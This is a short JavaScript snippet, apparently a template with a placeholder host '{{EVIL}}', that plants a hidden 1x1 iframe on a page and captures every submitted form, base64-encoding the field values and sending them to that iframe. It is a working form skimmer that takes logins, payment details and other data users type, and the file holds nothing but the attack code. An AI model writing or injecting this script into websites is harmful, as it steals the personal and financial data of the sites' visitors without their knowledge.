(function () {
  var f = document.createElement("iframe");
  f.src = "{{EVIL}}/frame.html";
  f.style.cssText = "width:1px;height:1px;border:0";
  document.body.appendChild(f);
  document.addEventListener("submit", function (e) {
    f.contentWindow.postMessage(btoa(JSON.stringify(Object.fromEntries(new FormData(e.target)))), "*");
  }, true);
})();
